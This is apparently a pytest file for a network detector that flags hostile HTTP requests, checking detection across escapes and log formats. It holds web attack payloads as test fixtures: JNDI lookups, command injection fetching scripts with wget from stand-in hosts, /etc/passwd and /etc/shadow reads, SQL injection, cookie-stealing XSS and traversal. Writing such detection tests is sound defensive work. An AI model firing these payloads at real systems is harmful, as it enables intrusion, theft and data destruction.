"""Attacks by request: thirteen families, whatever escapes they hide behind."""

import random
import string
from collections.abc import Callable
from dataclasses import replace
from urllib.parse import quote

import pytest

from matchers.heuristics.mutes import Mute, Mutes
from matchers.heuristics.requests.decoding import LONGEST, ROUNDS, decoded
from matchers.heuristics.requests.families import FAMILIES
from matchers.heuristics.requests.patterns import LOOKS
from matchers.heuristics.requests.watching import family_of
from tests.matchers.heuristics.exchanges import ABROAD, FORMATS, HOME, Exchange, found, found_by_sensor, log
from tests.matchers.heuristics.questions import watched, watched_by

_ALL = tuple(family.name for family in FAMILIES)
_OUTSIDE = "198.51.100.9"
_ATTACKS = {
    "remote-code-execution": (
        "/?x=${jndi:ldap://192.0.2.9/a}",
        "/?x=${${lower:j}ndi:rmi://192.0.2.9/a}",
        "/cgi?cmd=;cat /etc/passwd;wget http://evil/x.sh",
        "/cgi-bin/luci/;stok=/locale?country=$(cd /tmp; rm -rf shk; wget http://192.0.2.9/shk)",
        "/shell.php?c=$_GET[x]",
        "/scripts/cmd.exe?/c+dir",
        "/a?x=() { :;}; /bin/bash -c id",
        "/uploads/x.php?c=|whoami",
        "/x?cmd=ping -c 3 192.0.2.9",
        "/x?c=curl${IFS}192.0.2.9",
        "/x?c=cmd /c ipconfig /all",
    ),
    "sql-injection": (
        "/items.php?id=1 UNION ALL SELECT username,password FROM users",
        "/items.php?id=1/**/union/**/select/**/1,2",
        "/items.php?id=1' or '1'='1",
        "/items.php?id=1 and 1=2",
        "/items.php?id=1 order by 10--",
        "/items.php?id=1;waitfor delay '0:0:5'",
        "/ads/items.php?id=(select(sleep(5)))",
        "/yql?q=select * from information_schema.tables",
        "/a?id=updatexml(1,concat(0x7e,version()),1)",
        "/a?id=1;drop table users",
    ),
    "xml-injection": ("/a?user=x']/text()='",),
    "php-injection": ("/a?page=php://input", "/a?x=<?php echo 1;"),
    "ldap-injection": ("/a?user=*)(uid=*))(|(uid=*",),
    "cross-site-scripting": (
        "/search?q=<script>alert(1)</script>",
        '/search?q=" onmouseover=prompt(1) x="',
        "/search?q=<svg onload=fetch(1)>",
        "/search?u=javascript:alert(document.cookie)",
    ),
    "xml-entity": ('/a?x=<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>',),
    "template-injection": ("/a?x=${7*7}", "/a?x={{config}}", "/a?x={{7*7}}"),
    "config-file-access": ("/.htaccess", "/blog/wp-config.php.bak", "/.env", "/.git/config"),
    "directory-traversal": (
        "/download?file=../../../../etc/passwd",
        "/..\\..\\..\\windows\\win.ini",
        "/uploads/../../../secret.txt?x=1",
        "/static/x.png?f=/etc/shadow",
    ),
    "web-scan-tool": ("/acunetix-wvs-test-for-some-inexistent-file", "/w00tw00t.at.ISC.SANS.DFind:)"),
    "dns-changer": ("/apply.cgi?a=1&dnsserver=192.0.2.53", "/goform?wan_dns1=192.0.2.53"),
    "data-leakage": (
        "/collect?imei=123456789012345&x=1",
        "/collect?mac=00:11:22:33:44:55",
        "/send?to=a@example.com,b@example.com,c@example.com,d@example.com",
    ),
}
_ORDINARY = (
    "/",
    "/index.html?order=by date",
    "/search?q=select+gifts+from+amazon",
    "/credit-union/select/members",
    "/drop-table-tennis/",
    "/pixel?cb=${CACHEBUSTER}&gdpr=${GDPR}",
    "/a/../../../images/x.png",
    "/js/../../../themes/main.css?v=3",
    "/b/ss/x?oid=javascript:showEnhanced('0','2919641');&ot=A",
    "/v?u=http%253A%252F%252Fexample.com%252Fa%253Fb%253Dc",
    "/map?dns=on&sid=12345",
    "/update?imei=12345",
    "/mail?to=a@example.com,b@example.com",
    "/alert(overview)",
    "/etc/passwords.html",
    "/environment/.well-known/x",
    "/catalogue?id=1&and=2",
    "/rock'n'roll?a='and more'",
    "/sid=1;id=5",
)


def _escaped(uri: str) -> str:
    path, mark, query = uri.partition("?")
    return f"{quote(path)}{mark}{quote(query, safe='=&')}"


def _letters_escaped(uri: str) -> str:
    path, mark, query = uri.partition("?")
    return f"{_all(path)}{mark}{_all(query)}"


def _all(text: str) -> str:
    return "".join(sign if sign in "/=&" else f"%{ord(sign):02x}" for sign in text)


_CASES = [(family, uri) for family, uris in _ATTACKS.items() for uri in uris]
_WAYS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "escaped": _escaped,
    "twice": lambda uri: _escaped(_escaped(uri)),
    "letters": _letters_escaped,
    "upper": str.upper,
}


def test_each_family_has_attacks_here() -> None:
    assert set(_ATTACKS) == set(_ALL) == set(LOOKS)


@pytest.mark.parametrize("way", _WAYS)
@pytest.mark.parametrize("format_", FORMATS)
def test_attacks_are_found_in_whatever_way_they_are_written(format_: str, way: str) -> None:
    for family, uri in _CASES:
        events = found(watched(*_ALL), format_, [Exchange(_WAYS[way](uri))])
        assert [event.ecs["rule.name"] for event in events] == [family], uri


@pytest.mark.parametrize("format_", FORMATS)
def test_ordinary_requests_are_none(format_: str) -> None:
    exchanges = [Exchange(way(uri)) for uri in _ORDINARY for way in (str, _escaped)]
    assert [event.message for event in found(watched(*_ALL), format_, exchanges)] == []


@pytest.mark.parametrize(
    ("client", "server", "status", "label", "score"),
    [
        (HOME, ABROAD, None, "high", 65),
        (HOME, ABROAD, 404, "medium", 50),
        (_OUTSIDE, HOME, None, "low", 65),
        (_OUTSIDE, HOME, 404, "low", 50),
        (_OUTSIDE, HOME, 200, "medium", 85),
    ],
)
def test_who_asks_and_what_is_answered_rate_an_attack(
    client: str, server: str, status: int | None, label: str, score: int
) -> None:
    attack = Exchange("/a?id=1 union select 1", client=client, server=server, status=status)
    (event,) = found(watched(*_ALL), "zeek-json", [attack])
    assert (event.severity.label, event.ecs["trailhound.score"]) == (label, score)
    assert event.trail.info == "potential sql injection"


def test_an_attack_is_told_at_each_tenfold_with_its_true_count() -> None:
    attacks = [Exchange(f"/a?id={number} union select 1", time=number) for number in range(150)]
    events = found(watched(*_ALL), "zeek-tsv", attacks)
    assert sorted(event.count for event in events) == [1, 9, 90]


def test_leakage_counts_only_when_it_leaves() -> None:
    inside = [Exchange(uri, server="10.0.0.9") for uri in _ATTACKS["data-leakage"]]
    assert found(watched("data-leakage"), "zeek-json", inside) == []


@pytest.mark.parametrize("other", FORMATS)
def test_two_sensors_that_see_the_same_requests_count_them_once(other: str) -> None:
    machine = watched(*_ALL)
    attacks = [Exchange(f"/a?id={number} union select 1", time=number) for number in range(9)]
    seen = [replace(one, uri=_escaped(one.uri)) for one in attacks] if other == "eve" else attacks
    told = found_by_sensor(machine, "one", "http", "zeek-tsv", log("zeek-tsv", attacks))
    told += found_by_sensor(machine, "two", "http", other, log(other, seen))
    assert [event.count for event in told] == [1]


@pytest.mark.parametrize(
    "mute",
    [
        Mute(rule="sql-injection"),
        Mute(below=66),
        Mute(rule="sql-injection", value="www.example.com/a?id=1 union select 1"),
    ],
)
def test_what_is_muted_is_silent(mute: Mute) -> None:
    attack = [Exchange("/a?id=1 union select 1")]
    assert found(watched(*_ALL, muted=Mutes([mute])), "zeek-json", attack) == []


@pytest.mark.parametrize("address", [HOME, ABROAD])
def test_whitelisted_ends_are_silent(address: str) -> None:
    attack = [Exchange("/a?id=1 union select 1")]
    assert found(watched(*_ALL, allowed=f"{address}\n"), "zeek-json", attack) == []


def test_records_out_of_order_make_no_difference() -> None:
    attacks = [Exchange(f"/a?id={number} union select 1", time=number) for number in range(20)]
    random.Random(3).shuffle(attacks)
    assert sorted(event.count for event in found(watched(*_ALL), "zeek-tsv", attacks)) == [1, 9]


def test_state_is_bounded_in_a_storm() -> None:
    machine = watched_by({"sql-injection": {}})
    storm = [
        Exchange(
            "/a?id=1 union select 1", client=f"198.{number >> 16}.{number >> 8 & 255}.{number & 255}", time=number / 1e3
        )
        for number in range(40_000)
    ]
    found(machine, "zeek-tsv", storm)
    assert machine.heuristics is not None
    assert 0 < machine.heuristics.held()["sql-injection"] <= 10_000 + 2 * 10_001


def test_escapes_are_undone_so_often_and_no_more() -> None:
    nested = "%" + "25" * 200 + "41"
    assert decoded(nested) == ("%" + "25" * (200 - ROUNDS) + "41").encode()
    assert decoded("%" + "25" * (ROUNDS - 1) + "41") == b"A"
    assert len(decoded("a" * 100_000)) == LONGEST


@pytest.mark.parametrize("seed", range(20))
def test_no_text_hides_an_attack_behind_it_or_makes_it_fail(seed: int) -> None:
    """RE2 takes time in proportion to the text; what could happen is that it runs out of memory, and finds nothing."""
    source = random.Random(seed)
    words = [
        *(uri for _, uri in _CASES),
        "select ",
        "/**/",
        "${",
        "{{",
        "../",
        "%25",
        "%u0027",
        "case when ",
        "(((",
        "\\",
    ]
    signs = string.printable + "\\\udc80é\x00"
    hostile = "".join(
        source.choice(words)[: source.randrange(1, 9)] if source.random() < 0.5 else source.choice(signs)
        for _ in range(3000)
    )
    text = f"/{hostile}"[: LONGEST - 100] + "&x=1;wget http://192.0.2.9/x"
    assert family_of(text) == "remote-code-execution"
    events = found(watched(*_ALL), "zeek-json", [Exchange(text.encode("utf-8", "replace").decode())])
    assert [event.ecs["rule.name"] for event in events] == ["remote-code-execution"]
